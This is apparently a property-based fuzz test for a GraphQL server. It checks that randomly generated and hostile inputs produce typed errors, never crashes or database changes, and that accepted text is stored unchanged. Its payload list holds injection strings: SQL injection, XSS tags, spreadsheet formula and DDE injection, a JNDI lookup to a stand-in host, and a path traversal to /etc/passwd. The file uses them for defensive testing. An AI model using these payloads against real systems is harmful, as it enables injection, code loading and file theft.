import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import fc from 'fast-check';
import {
  getNamedType,
  isEnumType,
  isInputObjectType,
  isListType,
  isNonNullType,
  isObjectType,
  isScalarType,
  type GraphQLInputType,
} from 'graphql';
import { NONE, operationFor, rootFields, type RootField } from '../helpers/schema-ops';
import { startTestApp, type TestApp } from '../helpers/test-app';

// Property-based fuzzing of every query and mutation with inputs generated from
// the schema's own types: hostile text, odd numbers and dates, wrong ids, random
// optional fields. Whatever comes in, the server answers with a typed error or
// data: no INTERNAL_SERVER_ERROR, no 5xx, no crash; a refused command leaves the
// database as it was; text that is accepted comes back as it was sent.

const onPostgres = !!process.env.DATABASE_URL;
/** Runs per operation: more on PostgreSQL, fewer on the in-process PGlite (together above 10,000). */
const RUNS = Number(process.env.FUZZ_RUNS ?? (onPostgres ? 30 : 17));
const SEED = Number(process.env.FUZZ_SEED ?? 20261129);
const SLOW = 1_800_000;
/** Operations that end the fuzzer's own session, or run whole jobs: few runs. */
const SKIP = new Set(['logout']);
const HEAVY = /^(run|verify|createAuditCheckpoint|bulk)/;

const PAYLOADS = [
  "'; drop table person; --",
  "' or '1'='1",
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '=HYPERLINK("http://example.invalid","x")',
  '+cmd|\' /C calc\'!A0',
  '@SUM(1+1)',
  '-2+3',
  '\u202e反转文字',
  '𝕏😀👨‍👩‍👧',
  '诚信档案',
  '张三;李四',
  "it's; ok",
  'a\r\nb\tc',
  '%s%n%x',
  '${jndi:ldap://example.invalid/a}',
  '../../etc/passwd',
  'null',
  '{}',
  ' ',
  '',
  'e\u0301 ﬁ \uFEFF',
  '\u0000',
  '\ud800',
  'x'.repeat(10_001),
  '诚'.repeat(5_000),
];

const text = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...PAYLOADS) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 20 }) },
  { weight: 1, arbitrary: fc.string({ minLength: 200, maxLength: 3000 }) },
);
const date = (d: Date) => d.toISOString().slice(0, 10);
const dates = fc.oneof(
  fc.date({ min: new Date('1900-01-01'), max: new Date('2199-12-31'), noInvalidDate: true }).map(date),
  fc.constantFrom('2026-02-30', '0000-01-01', '9999-12-31', '2026-13-01', '2026-1-1', 'yesterday', ''),
);
const dateTimes = fc.oneof(
  fc.date({ min: new Date('1900-01-01'), max: new Date('2199-12-31'), noInvalidDate: true }).map((d) => d.toISOString()),
  fc.constantFrom('2026-02-30T00:00:00Z', 'now', ''),
);
const ints = fc.oneof(fc.integer({ min: -3, max: 120 }), fc.constantFrom(0, -1, 2_147_483_647, -2_147_483_648, 2 ** 31, 1e15));

function leafArb(type: GraphQLInputType, ids: fc.Arbitrary<string>): fc.Arbitrary<unknown> {
  const named = getNamedType(type);
  if (isEnumType(named)) {
    return fc.oneof({ weight: 9, arbitrary: fc.constantFrom(...named.getValues().map((v) => v.value)) }, { weight: 1, arbitrary: fc.constant('NOT_A_VALUE') });
  }
  switch (named.name) {
    case 'ID':
      return ids;
    case 'String':
      return text;
    case 'Int':
    case 'SafeInt':
      return ints;
    case 'Float':
      return fc.oneof(fc.double({ noNaN: true, noDefaultInfinity: true }), fc.constantFrom(0, 0.5, 1e308, -1));
    case 'Boolean':
      return fc.boolean();
    case 'LocalDate':
      return dates;
    case 'DateTimeISO':
      return dateTimes;
    case 'JSON':
      return fc.jsonValue({ maxDepth: 2 });
    case 'JSONObject':
      return fc.dictionary(fc.string({ maxLength: 8 }), fc.jsonValue({ maxDepth: 1 }), { maxKeys: 3 });
    default:
      throw new Error(`no arbitrary for scalar ${named.name}`);
  }
}

function inputArb(type: GraphQLInputType, ids: fc.Arbitrary<string>, depth = 0): fc.Arbitrary<unknown> {
  if (isNonNullType(type)) return inputArb(type.ofType, ids, depth);
  const inner = (): fc.Arbitrary<unknown> => {
    if (isListType(type)) return fc.array(inputArb(type.ofType, ids, depth + 1), { maxLength: depth > 1 ? 1 : 3 });
    if (isInputObjectType(type)) {
      const fields = Object.values(type.getFields());
      const shape: Record<string, fc.Arbitrary<unknown>> = {};
      const required: string[] = [];
      for (const f of fields) {
        if (depth > 3 && !(isNonNullType(f.type) && f.defaultValue === undefined)) continue;
        shape[f.name] = inputArb(f.type, ids, depth + 1);
        if (isNonNullType(f.type) && f.defaultValue === undefined) required.push(f.name);
      }
      return fc.record(shape, { requiredKeys: required });
    }
    return leafArb(type, ids);
  };
  // A nullable value is sometimes sent as null.
  return isNonNullType(type) ? inner() : fc.oneof({ weight: 9, arbitrary: inner() }, { weight: 1, arbitrary: fc.constant(null) });
}

function argsArb(rf: RootField, ids: fc.Arbitrary<string>): fc.Arbitrary<Record<string, unknown>> {
  const shape: Record<string, fc.Arbitrary<unknown>> = {};
  const required: string[] = [];
  for (const a of rf.field.args) {
    shape[a.name] = inputArb(a.type, ids);
    if (isNonNullType(a.type) && a.defaultValue === undefined) required.push(a.name);
  }
  return fc.record(shape, { requiredKeys: required });
}

/** String fields of the result that echo a top-level text field of `input`: checked for verbatim storage. */
function echoedTextFields(rf: RootField): string[] {
  const result = getNamedType(rf.field.type);
  const input = rf.field.args.find((a) => a.name === 'input');
  if (!isObjectType(result) || !input) return [];
  const inputType = getNamedType(input.type);
  if (!isInputObjectType(inputType)) return [];
  return Object.values(inputType.getFields())
    .filter((f) => getNamedType(f.type).name === 'String' && !isListType(isNonNullType(f.type) ? f.type.ofType : f.type))
    .map((f) => f.name)
    .filter((n) => {
      const out = result.getFields()[n];
      return out && isScalarType(getNamedType(out.type)) && getNamedType(out.type).name === 'String' && out.args.length === 0;
    });
}

describe(`fuzzing every operation with schema-generated hostile input (${onPostgres ? 'PostgreSQL' : 'PGlite'})`, () => {
  let t: TestApp;
  let admin: string;
  let checksumSql: string;
  const pool: string[] = [NONE];

  beforeAll(async () => {
    t = await startTestApp();
    admin = await t.login('admin');
    // Real ids let generated commands get past "not found" into the domain rules.
    for (const list of ['units', 'people', 'commitments', 'dishonestyRecords', 'complaints', 'enterprises', 'lawsuits', 'supervisionTasks']) {
      const { json } = await t.post({ query: `{ ${list}(limit: 5) { items { id } } }` }, { authorization: `Bearer ${admin}` });
      pool.push(...(json.data?.[list]?.items ?? []).map((i: { id: string }) => i.id));
    }
    const tables: { table_name: string }[] = await t
      .em()
      .getConnection()
      .execute(`select table_name from information_schema.tables where table_schema = 'public' and table_type = 'BASE TABLE' and table_name not like 'mikro_orm%' order by 1`);
    checksumSql = `select ${tables.map((r) => `(select count(*) from "${r.table_name}")`).join(' + ')} as rows, (select coalesce(max(seq), 0) from audit_event) as seq`;
  });
  afterAll(async () => t?.close());

  const checksum = async () => {
    const [row] = await t.em().getConnection().execute(checksumSql);
    return `${row.rows}/${row.seq}`;
  };

  it('answers every generated call with data or a typed client error, and refused commands change nothing', async () => {
    const ids = fc.oneof({ weight: 6, arbitrary: fc.constantFrom(...pool) }, { weight: 2, arbitrary: fc.uuid() }, { weight: 1, arbitrary: text });
    const only = process.env.FUZZ_ONLY?.split(',');
    const fields = rootFields().filter((rf) => !SKIP.has(rf.name) && (!only || only.includes(rf.name)));
    const started = Date.now();
    let calls = 0;
    let accepted = 0;
    const codes = new Map<string, number>();
    const failures: string[] = [];
    const notVerbatim: string[] = [];
    let last: string | undefined;
    for (const rf of fields) {
      const echoed = echoedTextFields(rf);
      const result = getNamedType(rf.field.type);
      const own = isObjectType(result) ? result.getFields() : {};
      const select = isObjectType(result)
        ? `{ __typename ${'id' in own ? 'id' : ''} ${echoed.join(' ')} }`
        : undefined;
      const runs = HEAVY.test(rf.name) ? 2 : RUNS;
      await fc.assert(
        fc.asyncProperty(argsArb(rf, ids), async (args) => {
          const op = operationFor(rf, { args: Object.fromEntries(Object.entries(args).filter(([, v]) => v !== undefined)), select });
          // The checksum after a refused command is the one before the next.
          const before = rf.root === 'Mutation' ? (last ??= await checksum()) : '';
          last = undefined;
          const { status, json } = await t.post(op, { authorization: `Bearer ${admin}` });
          calls += 1;
          const code: string = json.errors?.[0]?.extensions?.code ?? 'OK';
          codes.set(code, (codes.get(code) ?? 0) + 1);
          if (status >= 500 || code === 'INTERNAL_SERVER_ERROR' || (!json.data && !json.errors)) {
            failures.push(`${rf.name} ${status} ${code}: ${JSON.stringify(op.variables).slice(0, 300)}`);
            return false;
          }
          if (rf.root === 'Mutation' && json.errors && !json.data?.[rf.name]) {
            const after = await checksum();
            if (rf.root === 'Mutation') last = after;
            if (after !== before) {
              failures.push(`${rf.name} refused (${code}) but the database changed ${before} → ${after}`);
              return false;
            }
          }
          const out = json.data?.[rf.name];
          if (out && !json.errors) {
            accepted += 1;
            const input = (op.variables.input ?? {}) as Record<string, unknown>;
            for (const f of echoed) {
              const sent = input[f];
              if (typeof sent !== 'string' || out[f] === undefined) continue;
              // Names and codes are trimmed (and user names lower-cased) on purpose; anything else must be exact.
              if (out[f] !== sent && out[f] !== sent.trim() && out[f] !== sent.trim().toLowerCase() && !(sent.trim() === '' && out[f] === null)) {
                notVerbatim.push(`${rf.name}.${f}: sent ${JSON.stringify(sent.slice(0, 40))} got ${JSON.stringify(String(out[f]).slice(0, 40))}`);
              }
            }
          }
          return true;
        }),
        { numRuns: runs, seed: SEED, endOnFailure: true },
      ).catch((e: Error) => failures.push(`${rf.name}: ${e.message.split('\n').slice(0, 3).join(' ')}`));
    }
    const seconds = (Date.now() - started) / 1000;
    console.info(
      `fuzz: ${calls} calls over ${fields.length} operations in ${seconds.toFixed(0)} s (seed ${SEED}); ` +
        `${accepted} accepted; answers by code: ${[...codes].map(([c, n]) => `${c} ${n}`).join(', ')}`,
    );
    expect(failures).toEqual([]);
    expect(notVerbatim).toEqual([]);
    expect(calls).toBeGreaterThanOrEqual(fields.length * 2);
    if (!only) expect(fields.length).toBeGreaterThan(200);
    // The server is still up.
    expect((await t.post({ query: '{ me { username } }' }, { authorization: `Bearer ${admin}` })).json.data.me.username).toBe('admin');
  }, SLOW);

  it('stores hostile text verbatim or refuses it clearly, and finds nothing with it', async () => {
    const auth = { authorization: `Bearer ${admin}` };
    const unitId = pool[1];
    const problems: string[] = [];
    for (const [i, payload] of PAYLOADS.entries()) {
      const created = await t.post(
        {
          query: 'mutation ($input: CreatePersonInput!) { createPerson(input: $input) { id name } }',
          variables: { input: { name: payload, staffNumber: `HOSTILE${i}`, unitId } },
        },
        auth,
      );
      const code = created.json.errors?.[0]?.extensions?.code;
      if (code) {
        if (code !== 'BAD_USER_INPUT') problems.push(`createPerson ${JSON.stringify(payload.slice(0, 20))}: ${code}`);
        continue;
      }
      const id = created.json.data.createPerson.id;
      const read = await t.post({ query: 'query ($id: ID!) { person(id: $id) { name } }', variables: { id } }, auth);
      if (read.json.data?.person?.name !== payload && read.json.data?.person?.name !== payload.trim()) {
        problems.push(`person ${JSON.stringify(payload.slice(0, 20))} came back as ${JSON.stringify(read.json.data?.person?.name?.slice(0, 20))}`);
      }
      const lookup = await t.post({ query: 'query ($c: String!) { unitByCode(code: $c) { id } }', variables: { c: payload } }, auth);
      const lookupCode = lookup.json.errors?.[0]?.extensions?.code;
      if (lookupCode !== 'NOT_FOUND' && lookupCode !== 'BAD_USER_INPUT') problems.push(`unitByCode ${JSON.stringify(payload.slice(0, 20))}: ${lookupCode ?? 'found'}`);
    }
    expect(problems).toEqual([]);
    // NUL and an unpaired surrogate are refused before anything runs.
    for (const bad of ['a\u0000b', '\ud800']) {
      const r = await t.post({ query: 'query ($c: String!) { unitByCode(code: $c) { id } }', variables: { c: bad } }, auth);
      expect(r.json.errors[0].extensions).toMatchObject({ code: 'BAD_USER_INPUT', reason: 'INVALID_TEXT' });
    }
  });
});
